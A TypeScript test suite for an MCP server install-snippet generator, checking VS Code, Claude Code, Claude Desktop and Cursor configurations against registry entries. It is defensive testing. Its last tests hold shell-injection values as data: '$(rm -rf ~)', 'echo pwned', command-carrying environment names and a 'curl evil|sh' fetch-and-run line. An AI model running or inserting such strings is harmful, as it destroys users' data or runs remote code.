/**
 * Install configuration (src/ui/install.ts) for every real entry of test/fixtures and the sample
 * registry: each client's snippet is checked against the entry it came from (command, package
 * spec, arguments in order, environment variables, headers, URL), against the other clients'
 * (the same command line everywhere, placeholders where VS Code prompts), and as what its
 * client reads (JSON that parses, a shell command that splits back into the same words, a
 * vscode: link whose query is the same configuration). Then exact snippets for a few entries,
 * and the cases real data has not shown yet (every registry type, runtime hints, variables).
 */
// biome-ignore-all lint/suspicious/noTemplateCurlyInString: VS Code's `${input:ID}` and mcp-remote's `${NAME}` are the data under test
import { describe, expect, test } from "bun:test";
import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import {
	claudeCodeArgv,
	claudeCodeCommand,
	type InstallOption,
	installOptions,
	mcpServersEntry,
	mcpServersFile,
	packageSpec,
	placeholderFill,
	serverKey,
	shellQuote,
	startCommand,
	vscodeFile,
	vscodeInputs,
	vscodeLink,
	vscodeServer,
} from "../../src/ui/install.ts";
import { type Package, readServer, type ServerDoc } from "../../src/ui/server-json.ts";

const ROOT = join(import.meta.dir, "..", "..");
const read = (path: string) => JSON.parse(readFileSync(join(ROOT, path), "utf8")) as unknown;

/** Every server document of the fixtures and the sample registry, with where it came from. */
function realServers(): { from: string; doc: Record<string, unknown> }[] {
	const out: { from: string; doc: Record<string, unknown> }[] = [];
	const seed = read("test/fixtures/real-seed-358-servers.json") as Record<string, unknown>[];
	for (const doc of seed) out.push({ from: "real-seed-358-servers", doc });
	for (const file of ["test/fixtures/real-api-page-30-entries.json", "data/registry.json"]) {
		const { servers } = read(file) as { servers: { server: Record<string, unknown> }[] };
		for (const s of servers) out.push({ from: file, doc: s.server });
	}
	const fork = read("test/fixtures/fork-loader-format-4-records.json") as { servers: { value: unknown }[] };
	for (const r of fork.servers) {
		const value = typeof r.value === "string" ? JSON.parse(r.value) : r.value;
		out.push({ from: "fork-loader-format-4-records", doc: value as Record<string, unknown> });
	}
	return out;
}

/** POSIX shell word splitting (quotes and backslashes; no expansions, which the snippets never need). */
function shellWords(line: string): string[] {
	const words: string[] = [];
	let word: string | undefined;
	for (let i = 0; i < line.length; i++) {
		const c = line[i] as string;
		if (c === " " || c === "\t" || c === "\n") {
			if (word !== undefined) words.push(word);
			word = undefined;
		} else if (c === "'") {
			const end = line.indexOf("'", i + 1);
			if (end < 0) throw new Error(`unterminated quote in ${line}`);
			word = (word ?? "") + line.slice(i + 1, end);
			i = end;
		} else if (c === "\\") {
			word = (word ?? "") + (line[++i] ?? "");
		} else if (
			c === '"' ||
			c === "$" ||
			c === "`" ||
			c === "<" ||
			c === ">" ||
			c === "|" ||
			c === ";" ||
			c === "&"
		) {
			throw new Error(`unquoted shell metacharacter ${c} in ${line}`);
		} else {
			word = (word ?? "") + c;
		}
	}
	if (word !== undefined) words.push(word);
	return words;
}

/** VS Code's `${input:ID}` references in a rendered configuration. */
const inputRefs = (text: string): string[] =>
	[...text.matchAll(/\$\{input:([^}]+)\}/g)].map((m) => m[1] as string);

/** A VS Code value with each `${input:ID}` as the other clients render it. */
function asPlaceholders(value: unknown, o: InstallOption): unknown {
	return JSON.parse(
		JSON.stringify(value).replace(/\$\{input:([^}]+)\}/g, (_, id: string) => {
			const input = o.inputs.find((i) => i.id === id);
			if (!input) throw new Error(`no input ${id}`);
			return JSON.stringify(placeholderFill(input)).slice(1, -1);
		}),
	);
}

/** The runners that take a package spec (a runtimeHint among them is used, else the first). */
const RUNNERS: Record<string, string[]> = {
	npm: ["npx", "bunx", "pnpx"],
	pypi: ["uvx", "pipx"],
	oci: ["docker", "podman"],
	nuget: ["dnx"],
};

/** Whether `sub` appears in `list` in order (not necessarily next to each other). */
function inOrder(list: string[], sub: string[]): boolean {
	let at = 0;
	for (const x of list) if (x === sub[at]) at++;
	return at === sub.length;
}

/** Everything the snippets of one option must satisfy. */
function checkOption(server: ServerDoc, o: InstallOption): void {
	const key = serverKey(server.name);
	expect(key).toMatch(/^[A-Za-z0-9_-]{1,64}$/);
	const l = o.launch;
	if (!l) {
		expect(o.note).toBeDefined();
		for (const f of [vscodeFile, vscodeLink, claudeCodeCommand]) expect(f(key, o)).toBeUndefined();
		return;
	}
	// VS Code: mcp.json, its inputs, and the install link.
	const file = JSON.parse(vscodeFile(key, o) as string) as {
		servers: Record<string, Record<string, unknown>>;
		inputs?: Record<string, unknown>[];
	};
	const entry = file.servers[key] as Record<string, unknown>;
	expect(entry).toEqual(vscodeServer(o) as Record<string, unknown>);
	const refs = new Set(inputRefs(JSON.stringify(entry)));
	const inputs = file.inputs ?? [];
	expect(inputs.map((i) => i.id).sort()).toEqual([...refs].sort());
	expect(new Set(inputs.map((i) => i.id)).size).toBe(inputs.length);
	for (const i of inputs) {
		expect(i.type === "promptString" || i.type === "pickString").toBe(true);
		expect(typeof i.description === "string" && i.description !== "").toBe(true);
		const spec = o.inputs.find((x) => x.id === i.id);
		expect(i.password === true).toBe(spec?.secret === true && i.type === "promptString");
	}
	// No placeholder of the other clients in VS Code's (real values may look like one).
	for (const i of o.inputs) expect(JSON.stringify(entry)).not.toContain(`<${i.id}>`);
	const link = vscodeLink(key, o) as string;
	expect(link.startsWith("vscode:mcp/install?")).toBe(true);
	const query = link.slice("vscode:mcp/install?".length);
	expect(query).toMatch(/^[A-Za-z0-9%\-_.!~*'()]+$/);
	const fromLink = JSON.parse(decodeURIComponent(query)) as Record<string, unknown>;
	expect(fromLink).toEqual({ name: key, ...entry, ...(inputs.length > 0 ? { inputs } : {}) });

	// Claude Code: one shell command that splits back into the words it was built from.
	const command = claudeCodeCommand(key, o) as string;
	const argv = claudeCodeArgv(key, o) as string[];
	expect(shellWords(command)).toEqual(argv);
	expect(argv.slice(0, 3)).toEqual(["claude", "mcp", "add"]);
	expect(argv[5]).toBe(key);

	// Claude Desktop and Cursor.
	const desktop = (
		JSON.parse(mcpServersFile(key, o, "claude") as string) as {
			mcpServers: Record<string, Record<string, unknown>>;
		}
	).mcpServers[key] as Record<string, unknown>;
	const cursor = (
		JSON.parse(mcpServersFile(key, o, "cursor") as string) as {
			mcpServers: Record<string, Record<string, unknown>>;
		}
	).mcpServers[key] as Record<string, unknown>;
	expect(desktop).toEqual(mcpServersEntry(o, "claude") as Record<string, unknown>);

	if (l.kind === "stdio") {
		// The same command line in every client; VS Code's inputs are the others' placeholders.
		const { type, ...vscodeCommand } = entry;
		expect(type).toBe("stdio");
		expect(asPlaceholders(vscodeCommand, o)).toEqual(desktop);
		expect(cursor).toEqual(desktop);
		const args = (desktop.args ?? []) as string[];
		const env = (desktop.env ?? {}) as Record<string, string>;
		const dash = argv.indexOf("--");
		expect(argv.slice(dash + 1)).toEqual([desktop.command as string, ...args]);
		const envArgs = argv.slice(6, dash);
		expect(envArgs).toEqual(Object.entries(env).flatMap(([k, v]) => ["--env", `${k}=${v}`]));
		expect(args.every((a) => typeof a === "string")).toBe(true);
		return;
	}
	// A URL: the same URL and headers everywhere.
	expect(entry.type).toBe(l.transport === "sse" ? "sse" : "http");
	expect(asPlaceholders(entry.url, o)).toBe(cursor.url as string);
	expect(asPlaceholders(entry.headers ?? {}, o)).toEqual(cursor.headers ?? {});
	expect(argv.slice(3, 7)).toEqual([
		"--transport",
		l.transport === "sse" ? "sse" : "http",
		key,
		cursor.url as string,
	]);
	expect(argv.slice(7)).toEqual(
		Object.entries((cursor.headers ?? {}) as Record<string, string>).flatMap(([k, v]) => [
			"--header",
			`${k}: ${v}`,
		]),
	);
	// Claude Desktop through mcp-remote: the URL, each header from an environment variable.
	expect(desktop.command).toBe("npx");
	const bridge = desktop.args as string[];
	expect(bridge.slice(0, 3)).toEqual(["-y", "mcp-remote", cursor.url as string]);
	const headerArgs = bridge.filter((_, k) => bridge[k - 1] === "--header");
	expect(headerArgs.length).toBe(Object.keys(cursor.headers ?? {}).length);
	for (const h of headerArgs) {
		const m = /^([^:]+):\$\{([A-Z0-9_]+)\}$/.exec(h);
		expect(m).not.toBeNull();
		expect((desktop.env as Record<string, string>)[m?.[2] as string]).toBe(
			(cursor.headers as Record<string, string>)[m?.[1] as string] as string,
		);
	}
}

/** What the stdio command of a package must hold, from the package itself. */
function checkPackage(p: Package, o: InstallOption): void {
	const entry = vscodeServer(o) as { command: string; args?: string[]; env?: Record<string, string> };
	const args = entry.args ?? [];
	const runners = RUNNERS[p.registryType] as string[];
	expect(entry.command).toBe(
		p.runtimeHint && runners.includes(p.runtimeHint) ? p.runtimeHint : (runners[0] as string),
	);
	const spec = packageSpec(p);
	expect(args).toContain(spec);
	if (p.version !== undefined && p.registryType === "npm") expect(spec).toBe(`${p.identifier}@${p.version}`);
	if (p.version !== undefined && p.registryType === "pypi")
		expect(spec).toBe(`${p.identifier}==${p.version}`);
	if (p.registryType === "npm" && entry.command === "npx") expect(args[0]).toBe("-y");
	if (p.registryType === "oci") {
		expect(args.slice(0, 3)).toEqual(["run", "-i", "--rm"]);
		// Each variable passed into the container, before the image.
		const image = args.indexOf(spec);
		for (const e of p.environmentVariables) expect(inOrder(args.slice(0, image), ["-e", e.name])).toBe(true);
		expect(spec.split("/").at(-1)?.split(":").length).toBeLessThanOrEqual(2);
	}
	// Environment variables: every one, by name, in order.
	expect(Object.keys(entry.env ?? {})).toEqual(p.environmentVariables.map((e) => e.name));
	for (const e of p.environmentVariables) {
		const v = entry.env?.[e.name] as string;
		if (e.value !== undefined && !e.variables) expect(v).toBe(e.value);
		if (e.value === undefined) expect(v).toBe(`\${input:${o.inputs.find((i) => i.target === e.name)?.id}}`);
	}
	// Package arguments after the package, in order, with their values.
	const after = args.slice(args.indexOf(spec) + 1);
	const words = p.packageArguments.flatMap((a) => {
		if (a.type === "named") return a.value !== undefined ? [a.name as string, a.value] : [a.name as string];
		return a.value !== undefined ? [a.value] : [];
	});
	expect(inOrder(after, words)).toBe(true);
}

describe("install configuration for every real entry", () => {
	const servers = realServers();

	test("the fixtures hold what the checks need", () => {
		expect(servers.length).toBeGreaterThan(480);
		const types = new Set(servers.flatMap((s) => readServer(s.doc).packages.map((p) => p.registryType)));
		expect([...types].sort()).toEqual(["mcpb", "npm", "nuget", "oci", "pypi"]);
		expect(servers.some((s) => readServer(s.doc).remotes.some((r) => r.headers.length > 0))).toBe(true);
		expect(servers.some((s) => readServer(s.doc).packages.some((p) => p.packageArguments.length > 0))).toBe(
			true,
		);
	});

	test("every package and remote of every entry: each client's snippet, consistent with the entry and the others", () => {
		let options = 0;
		for (const { from, doc } of servers) {
			const server = readServer(doc);
			const all = installOptions(server);
			expect(all.length, `${from}: ${server.name}`).toBe(server.packages.length + server.remotes.length);
			all.forEach((o, k) => {
				try {
					checkOption(server, o);
					const p = server.packages[k];
					if (p && o.launch?.kind === "stdio") checkPackage(p, o);
					if (!p) expect(o.target).toBe(server.remotes[k - server.packages.length]?.url as string);
				} catch (err) {
					throw new Error(`${from}: ${server.name} option ${o.id}: ${(err as Error).message}`);
				}
				options++;
			});
		}
		expect(options).toBeGreaterThan(480);
	});
});

const SAMPLE = read("data/registry.json") as { servers: { server: Record<string, unknown> }[] };
const sampleServer = (name: string, version?: string): ServerDoc => {
	const s = SAMPLE.servers.find(
		(x) => x.server.name === name && (version === undefined || x.server.version === version),
	);
	if (!s) throw new Error(`no ${name} in the sample`);
	return readServer(s.server);
};
const only = (server: ServerDoc, k = 0): InstallOption => installOptions(server)[k] as InstallOption;

describe("exact snippets of real entries", () => {
	test("an OCI image with a secret environment variable", () => {
		const server = sampleServer("ai.aliengiraffe/spotdb");
		const o = only(server);
		expect(JSON.parse(vscodeFile("spotdb", o) as string)).toEqual({
			inputs: [
				{
					type: "promptString",
					id: "X-API-Key",
					description: "Optional API key for request authentication",
					password: true,
				},
			],
			servers: {
				spotdb: {
					type: "stdio",
					command: "docker",
					args: ["run", "-i", "--rm", "-e", "X-API-Key", "docker.io/aliengiraffe/spotdb:0.1.0"],
					env: { "X-API-Key": "${input:X-API-Key}" },
				},
			},
		});
		expect(claudeCodeCommand("spotdb", o)).toBe(
			"claude mcp add --transport stdio spotdb --env 'X-API-Key=<X-API-Key>' -- docker run -i --rm -e X-API-Key docker.io/aliengiraffe/spotdb:0.1.0",
		);
	});

	test("a remote with a secret header", () => {
		const o = only(sampleServer("ai.meminal/meminal"));
		expect(vscodeServer(o)).toEqual({
			type: "http",
			url: "https://meminal.ai/mcp",
			headers: { Authorization: "${input:Authorization}" },
		});
		expect(vscodeInputs(o)).toEqual([
			{
				type: "promptString",
				id: "Authorization",
				description: "Bearer token for authentication (OAuth or Personal Access Token)",
				password: true,
			},
		]);
		expect(claudeCodeCommand("meminal", o)).toBe(
			"claude mcp add --transport http meminal https://meminal.ai/mcp --header 'Authorization: <Authorization>'",
		);
		expect(mcpServersEntry(o, "cursor")).toEqual({
			url: "https://meminal.ai/mcp",
			headers: { Authorization: "<Authorization>" },
		});
		expect(mcpServersEntry(o, "claude")).toEqual({
			command: "npx",
			args: ["-y", "mcp-remote", "https://meminal.ai/mcp", "--header", "Authorization:${AUTHORIZATION}"],
			env: { AUTHORIZATION: "<Authorization>" },
		});
		expect(vscodeLink("meminal", o)).toBe(
			`vscode:mcp/install?${encodeURIComponent(
				JSON.stringify({
					name: "meminal",
					type: "http",
					url: "https://meminal.ai/mcp",
					headers: { Authorization: "${input:Authorization}" },
					inputs: vscodeInputs(o),
				}),
			)}`,
		);
	});

	test("a PyPI package with named and positional arguments and two variables", () => {
		const server = readServer(
			(
				read("data/registry.json") as { servers: { server: { packages?: { identifier: string }[] } }[] }
			).servers.find((s) => s.server.packages?.some((p) => p.identifier === "adfinmcp"))?.server,
		);
		const o = only(server);
		expect(mcpServersEntry(o, "claude")).toEqual({
			command: "uvx",
			args: ["adfinmcp==0.1.0", "--directory", "<absolute_path_to_adfin_mcp_folder>", "main_adfin_mcp.py"],
			env: { ADFIN_EMAIL: "<ADFIN_EMAIL>", ADFIN_PASSWORD: "<ADFIN_PASSWORD>" },
		});
		expect(claudeCodeCommand(serverKey(server.name), o)).toBe(
			`claude mcp add --transport stdio ${serverKey(server.name)} --env 'ADFIN_EMAIL=<ADFIN_EMAIL>' --env 'ADFIN_PASSWORD=<ADFIN_PASSWORD>' -- uvx adfinmcp==0.1.0 --directory '<absolute_path_to_adfin_mcp_folder>' main_adfin_mcp.py`,
		);
	});
});

describe("a value written for VS Code", () => {
	test("`${input:ID}` in a real entry's value is an input: declared for VS Code, a placeholder elsewhere", () => {
		const seed = read("test/fixtures/real-seed-358-servers.json") as Record<string, unknown>[];
		const server = readServer(seed.find((s) => s.name === "io.github.calclavia/mcp-obsidian"));
		const o = only(server);
		expect(vscodeServer(o)).toEqual({
			type: "stdio",
			command: "npx",
			args: ["-y", "mcp-obsidian@1.0.0", "${input:vaultPath}"],
		});
		expect(vscodeInputs(o)).toEqual([
			{ type: "promptString", id: "vaultPath", description: "Path to Obsidian vault" },
		]);
		expect(mcpServersEntry(o, "claude")).toEqual({
			command: "npx",
			args: ["-y", "mcp-obsidian@1.0.0", "<vaultPath>"],
		});
	});
});

/** A server document with the given packages and remotes. */
const doc = (extra: Record<string, unknown>): ServerDoc =>
	readServer({ name: "io.example/tool", description: "A tool", version: "1.0.0", ...extra });

describe("every registry type, runtime hints and variables", () => {
	test("npm with runtime arguments, a package argument without a value, a default and a choice", () => {
		const o = only(
			doc({
				packages: [
					{
						registryType: "npm",
						identifier: "@example/tool",
						version: "2.1.0",
						transport: { type: "stdio" },
						runtimeArguments: [{ type: "named", name: "--node-options", value: "--max-old-space-size=512" }],
						packageArguments: [
							{
								type: "positional",
								valueHint: "root_dir",
								description: "Folder to serve",
								isRequired: true,
								format: "filepath",
							},
							{ type: "named", name: "--mode", choices: ["read", "write"], default: "read" },
							{ type: "named", name: "--verbose" },
						],
						environmentVariables: [
							{ name: "TOOL_TOKEN", isSecret: true, isRequired: true, description: "API token" },
							{ name: "TOOL_REGION", default: "eu" },
							{ name: "TOOL_MODE", value: "fixed" },
						],
					},
				],
			}),
		);
		expect(vscodeServer(o)).toEqual({
			type: "stdio",
			command: "npx",
			args: [
				"-y",
				"--node-options",
				"--max-old-space-size=512",
				"@example/tool@2.1.0",
				"${input:root_dir}",
				"--mode",
				"${input:mode}",
				"--verbose",
			],
			env: { TOOL_TOKEN: "${input:TOOL_TOKEN}", TOOL_REGION: "${input:TOOL_REGION}", TOOL_MODE: "fixed" },
		});
		expect(vscodeInputs(o)).toEqual([
			{ type: "promptString", id: "TOOL_TOKEN", description: "API token", password: true },
			{
				type: "promptString",
				id: "TOOL_REGION",
				description: "TOOL_REGION (environment variable)",
				default: "eu",
			},
			{ type: "promptString", id: "root_dir", description: "Folder to serve" },
			{
				type: "pickString",
				id: "mode",
				description: "--mode (argument)",
				options: ["read", "write"],
				default: "read",
			},
		]);
		// Elsewhere: placeholders, and the defaults of what is not secret.
		expect(mcpServersEntry(o, "claude")).toEqual({
			command: "npx",
			args: [
				"-y",
				"--node-options",
				"--max-old-space-size=512",
				"@example/tool@2.1.0",
				"<root_dir>",
				"--mode",
				"read",
				"--verbose",
			],
			env: { TOOL_TOKEN: "<TOOL_TOKEN>", TOOL_REGION: "eu", TOOL_MODE: "fixed" },
		});
		expect(o.inputs.map((i) => [i.id, i.required, i.secret])).toEqual([
			["TOOL_TOKEN", true, true],
			["TOOL_REGION", false, false],
			["root_dir", true, false],
			["mode", false, false],
		]);
	});

	test("runtime hints: bunx takes no -y, pipx runs, podman runs like docker", () => {
		const npm = only(
			doc({
				packages: [
					{
						registryType: "npm",
						identifier: "tool",
						version: "1.0.0",
						runtimeHint: "bunx",
						transport: { type: "stdio" },
					},
				],
			}),
		);
		expect(vscodeServer(npm)).toEqual({ type: "stdio", command: "bunx", args: ["tool@1.0.0"] });
		const pipx = only(
			doc({
				packages: [
					{
						registryType: "pypi",
						identifier: "tool",
						version: "1.0.0",
						runtimeHint: "pipx",
						transport: { type: "stdio" },
					},
				],
			}),
		);
		expect(vscodeServer(pipx)).toEqual({ type: "stdio", command: "pipx", args: ["run", "tool==1.0.0"] });
		const podman = only(
			doc({
				packages: [
					{
						registryType: "oci",
						identifier: "ghcr.io/example/tool",
						version: "1.0.0",
						runtimeHint: "podman",
						transport: { type: "stdio" },
					},
				],
			}),
		);
		expect(vscodeServer(podman)).toEqual({
			type: "stdio",
			command: "podman",
			args: ["run", "-i", "--rm", "ghcr.io/example/tool:1.0.0"],
		});
	});

	test("OCI: runtime arguments go to docker run, with their variables; a tag or digest already given is kept", () => {
		const o = only(
			doc({
				packages: [
					{
						registryType: "oci",
						identifier: "ghcr.io/example/tool@sha256:abc",
						version: "1.0.0",
						transport: { type: "stdio" },
						runtimeArguments: [
							{
								type: "named",
								name: "-v",
								value: "{host_dir}:/data",
								variables: {
									host_dir: { description: "Folder to mount", format: "filepath", isRequired: true },
								},
							},
						],
						environmentVariables: [{ name: "TOKEN", isSecret: true }],
					},
				],
			}),
		);
		expect(vscodeServer(o)).toEqual({
			type: "stdio",
			command: "docker",
			args: [
				"run",
				"-i",
				"--rm",
				"-v",
				"${input:host_dir}:/data",
				"-e",
				"TOKEN",
				"ghcr.io/example/tool@sha256:abc",
			],
			env: { TOKEN: "${input:TOKEN}" },
		});
		expect(claudeCodeCommand("tool", o)).toBe(
			"claude mcp add --transport stdio tool --env 'TOKEN=<TOKEN>' -- docker run -i --rm -v '<host_dir>:/data' -e TOKEN ghcr.io/example/tool@sha256:abc",
		);
	});

	test("NuGet: dnx id@version --yes, then -- before the package's arguments", () => {
		const o = only(
			doc({
				packages: [
					{
						registryType: "nuget",
						identifier: "Example.Tool",
						version: "0.3.0",
						transport: { type: "stdio" },
						packageArguments: [{ type: "named", name: "--port", value: "4000" }],
					},
				],
			}),
		);
		expect(vscodeServer(o)).toEqual({
			type: "stdio",
			command: "dnx",
			args: ["Example.Tool@0.3.0", "--yes", "--", "--port", "4000"],
		});
	});

	test("an MCP bundle: no client configuration, a note and its download", () => {
		const o = only(
			doc({
				packages: [
					{
						registryType: "mcpb",
						identifier: "https://github.com/example/tool/releases/download/v1/tool.mcpb",
						fileSha256: "a".repeat(64),
						transport: { type: "stdio" },
					},
				],
			}),
		);
		expect(o.launch).toBeUndefined();
		expect(o.note).toContain("Claude Desktop");
		expect(o.download).toBe("https://github.com/example/tool/releases/download/v1/tool.mcpb");
		expect(vscodeLink("tool", o)).toBeUndefined();
	});

	test("a remote with URL variables and a header made of a variable", () => {
		const o = only(
			doc({
				remotes: [
					{
						type: "sse",
						url: "https://{tenant}.example.com/sse",
						variables: { tenant: { description: "Your tenant", isRequired: true } },
						headers: [
							{
								name: "Authorization",
								value: "Bearer {api_key}",
								variables: { api_key: { description: "API key", isSecret: true, isRequired: true } },
							},
						],
					},
				],
			}),
		);
		expect(vscodeServer(o)).toEqual({
			type: "sse",
			url: "https://${input:tenant}.example.com/sse",
			headers: { Authorization: "Bearer ${input:api_key}" },
		});
		expect(vscodeInputs(o)).toEqual([
			{ type: "promptString", id: "tenant", description: "Your tenant" },
			{ type: "promptString", id: "api_key", description: "API key", password: true },
		]);
		expect(claudeCodeArgv("tool", o)).toEqual([
			"claude",
			"mcp",
			"add",
			"--transport",
			"sse",
			"tool",
			"https://<tenant>.example.com/sse",
			"--header",
			"Authorization: Bearer <api_key>",
		]);
		expect(mcpServersEntry(o, "claude")).toEqual({
			command: "npx",
			args: [
				"-y",
				"mcp-remote",
				"https://<tenant>.example.com/sse",
				"--transport",
				"sse-only",
				"--header",
				"Authorization:${AUTHORIZATION}",
			],
			env: { AUTHORIZATION: "Bearer <api_key>" },
		});
	});

	test("a package that serves HTTP itself: started by a command, connected to by its URL", () => {
		const o = only(
			doc({
				packages: [
					{
						registryType: "npm",
						identifier: "tool",
						version: "1.0.0",
						transport: { type: "streamable-http", url: "http://localhost:{port}/mcp" },
						packageArguments: [{ type: "named", name: "--port", default: "8080", description: "Port" }],
					},
				],
			}),
		);
		expect(vscodeServer(o)).toEqual({ type: "http", url: "http://localhost:8080/mcp" });
		expect(startCommand(o)).toBe("npx -y tool@1.0.0 --port 8080");
		checkOption(doc({}), o);
	});

	test("hostile values are quoted for the shell and stay data in JSON", () => {
		const o = only(
			doc({
				packages: [
					{
						registryType: "npm",
						identifier: "tool",
						version: "1.0.0",
						transport: { type: "stdio" },
						packageArguments: [{ type: "positional", value: "$(rm -rf ~) `id` it's; | > /etc/x" }],
						environmentVariables: [{ name: "A", value: "x' ; echo pwned '" }],
					},
				],
			}),
		);
		const argv = claudeCodeArgv("tool", o) as string[];
		expect(shellWords(claudeCodeCommand("tool", o) as string)).toEqual(argv);
		expect(argv).toContain("$(rm -rf ~) `id` it's; | > /etc/x");
		expect(argv).toContain("A=x' ; echo pwned '");
		expect(shellQuote("it's")).toBe(`'it'\\''s'`);
		expect(JSON.parse(vscodeFile("tool", o) as string).servers.tool.args).toContain(
			"$(rm -rf ~) `id` it's; | > /etc/x",
		);
	});

	test("pasted into bash, hostile names and values run nothing: env names that are no shell names, control characters", () => {
		const dir = mkdtempSync(join(tmpdir(), "ui-shell-"));
		try {
			// A stand-in for npx that prints its arguments and the environment it was given.
			// (The environment as exec gave it: a shell drops names it could not hold, a program keeps them.)
			writeFileSync(
				join(dir, "npx"),
				'#!/bin/sh\nprintf "arg:%s\\n" "$@"\ntr "\\0" "\\n" < /proc/$$/environ\n',
				{
					mode: 0o755,
				},
			);
			const o = only(
				doc({
					packages: [
						{
							registryType: "npm",
							identifier: "tool",
							version: "1.0.0",
							transport: { type: "streamable-http", url: "http://localhost:8080/mcp" },
							packageArguments: [{ type: "positional", value: "a\u0015\u0003\ntouch PWNED_CTRL\n" }],
							environmentVariables: [
								{ name: "X;touch${IFS}PWNED_ENV;Y", value: "v" },
								{ name: "A$(touch PWNED_SUB)", value: "w" },
							],
						},
					],
				}),
			);
			const command = startCommand(o) as string;
			// Nothing a terminal would act on is left in the text.
			expect([...command].filter((c) => c.charCodeAt(0) < 32 || c.charCodeAt(0) === 127)).toEqual([]);
			const run = Bun.spawnSync(["bash", "-c", command], {
				cwd: dir,
				env: { PATH: `${dir}:/usr/bin:/bin` },
			});
			const out = run.stdout.toString();
			expect(run.exitCode).toBe(0);
			expect(readdirSync(dir).sort()).toEqual(["npx"]);
			expect(out).toContain("arg:a\u0015\u0003");
			expect(out).toContain("X;touch${IFS}PWNED_ENV;Y=v");
			expect(out).toContain("A$(touch PWNED_SUB)=w");
			for (const word of [
				"a\u0015\u0003\ncurl evil|sh\n",
				"tab\there",
				"esc\u001b[2J",
				"back\\slash'quote",
			]) {
				const echoed = Bun.spawnSync(["bash", "-c", `printf %s ${shellQuote(word)}`]).stdout.toString();
				expect(echoed).toBe(word);
			}
		} finally {
			rmSync(dir, { recursive: true, force: true });
		}
	});

	test("server keys: the name's last part, as every client accepts it", () => {
		expect(serverKey("io.github.user/weather")).toBe("weather");
		expect(serverKey("com.example/my.tool_v2")).toBe("my-tool_v2");
		expect(serverKey("a/...")).toBe("server");
	});
});
